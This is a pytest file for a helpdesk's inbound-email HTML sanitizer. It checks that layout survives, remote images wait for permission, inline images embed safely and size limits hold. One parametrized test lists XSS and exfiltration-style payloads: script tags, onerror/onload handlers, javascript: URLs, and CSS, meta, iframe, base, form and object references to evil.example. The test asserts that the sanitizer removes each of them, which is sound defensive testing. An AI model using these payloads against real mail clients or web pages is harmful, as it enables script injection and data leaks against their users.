"""A mail as it came: laid out as its sender did, harmless, nothing fetched unless asked."""

import base64
from email.message import EmailMessage

import pytest

from tests.inbound.conftest import eml
from tickets.inbound.letters import LARGEST_PICTURE, MOST_DRAWN, MOST_TAGS, letter

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)


def html_mail(html: str, *pictures: tuple[str, bytes, str]) -> bytes:
    """A mail with text and HTML, and parts that its HTML names."""
    mail = EmailMessage()
    mail["From"], mail["To"] = "Carla <carla@acme.example>", "support@helpdesk.localhost"
    mail["Subject"], mail["Message-ID"] = "The lamp flickers", "<html@acme.example>"
    mail.set_content("In plain words.")
    mail.add_alternative(html, subtype="html")
    for name, content, subtype in pictures:
        part = mail.get_payload()[1]  # type: ignore[index]
        part.add_related(content, "image", subtype, cid=f"<{name}>")  # type: ignore[union-attr]
    return bytes(mail)


def test_its_layout_is_kept() -> None:
    found = letter(
        html_mail('<p style="color:red"><b>Bold</b></p><table><tr><td>x</td></tr></table>')
    )
    assert '<p style="color:red"><b>Bold</b></p>' in found.html
    assert "<td>x</td>" in found.html
    assert (found.sender, found.subject) == ("Carla <carla@acme.example>", "The lamp flickers")


@pytest.mark.parametrize(
    "evil",
    [
        "<script>hit()</script>",
        "<img src=x onerror=hit()>",
        "<svg/onload=hit()>",
        '<a href="javascript:hit()">x</a>',
        '<a href=" data:text/html,hit()">x</a>',
        "<form action=//evil.example><input name=hit></form>",
        "<iframe src=//evil.example/hit></iframe>",
        "<style>@import '//evil.example/hit'</style>",
        "<meta http-equiv=refresh content='0;url=//evil.example/hit'>",
        "<base href=//evil.example/hit>",
        "<link rel=stylesheet href=//evil.example/hit>",
        '<p style="background:url(//evil.example/hit)">x</p>',
        '<p style="color:u\\72l(//evil.example/hit)">x</p>',
        '<p style="color:url(//evil.example/hit)">x</p>',
        "<body background=//evil.example/hit>",
        '<img src="data:image/svg+xml,<svg onload=hit()>">',
        "<math><mtext><img src=x onerror=hit()></mtext></math>",
        "<object data=//evil.example/hit></object>",
        '<a href="//evil.example/hit">x</a>',
    ],
)
def test_nothing_that_runs_sends_or_fetches_is_left(evil: str) -> None:
    assert "hit" not in letter(html_mail(f"<p>before</p>{evil}<p>after</p>"), pictures=True).html


def test_pictures_elsewhere_wait_until_they_are_asked_for() -> None:
    raw = html_mail('<p>x</p><img src="https://shop.example/a.png"><img src="http://b.example/b">')
    withheld, asked = letter(raw), letter(raw, pictures=True)
    assert withheld.withheld == 2
    assert "shop.example" not in withheld.html
    assert asked.withheld == 0
    assert 'src="https://shop.example/a.png"' in asked.html


def test_a_picture_that_the_mail_brings_along_is_drawn_at_once() -> None:
    found = letter(html_mail('<img src="cid:lamp" alt="The lamp">', ("lamp", PNG, "png")))
    assert found.withheld == 0
    assert 'src="data:image/png;base64,' in found.html


def test_what_only_claims_to_be_a_picture_is_none() -> None:
    found = letter(html_mail('<img src="cid:lamp">', ("lamp", b"<svg onload=hit()>", "png")))
    assert "src" not in found.html


def test_a_picture_that_is_named_over_and_over_is_not_drawn_over_and_over() -> None:
    large = PNG + bytes(LARGEST_PICTURE - len(PNG))
    html = '<img src="cid:lamp">' * 300 + '<img src="cid:dot">'
    found = letter(html_mail(html, ("lamp", large, "png"), ("dot", PNG, "png")))
    assert 0 < found.html.count("data:image/png") < 10
    assert len(found.html) <= MOST_DRAWN + 10_000


def test_a_small_picture_is_drawn_wherever_it_is_named() -> None:
    found = letter(html_mail('<img src="cid:dot">' * 300, ("dot", PNG, "png")))
    assert found.html.count("data:image/png") == 300


@pytest.mark.parametrize("tag", ["font", "B", "a", "nobr"])
def test_what_is_left_open_is_not_opened_again_in_every_paragraph(tag: str) -> None:
    left_open = "".join(f"<{tag} color=c{each} href=http://x/{each}>" for each in range(1_000))
    found = letter(html_mail(f"<p>{left_open}</p>" + "<p>x</p>" * 1_000))
    assert found.html.count("<p>x</p>") == 1_000
    assert len(found.html) < 150_000


def test_links_lead_out_of_the_page_without_saying_where_from() -> None:
    found = letter(html_mail('<p><A HREF="https://x.example/">Look</A> <b>a<i/>b</b></p>'))
    told = '<a href="https://x.example/" rel="noopener noreferrer nofollow">Look</a>'
    assert told in found.html
    assert "x-" not in found.html


def test_a_tag_within_a_title_stays_within_it() -> None:
    found = letter(html_mail("<p title='<a onclick=hit() ><b >'>x</p>"))
    assert found.html.strip() == '<p title="&lt;a onclick=hit() &gt;&lt;b &gt;">x</p>'


def test_more_signs_than_can_be_made_safe_in_a_moment_are_read_as_text() -> None:
    found = letter(html_mail("<div>" * (MOST_TAGS + 1)))
    assert (found.html, found.text) == ("", "In plain words.")


@pytest.mark.parametrize("name", ["plain", "html_only", "deep_multipart", "nul", "brackets"])
def test_it_reads_whatever_the_corpus_has(name: str) -> None:
    found = letter(eml(name))
    assert found.html or found.text
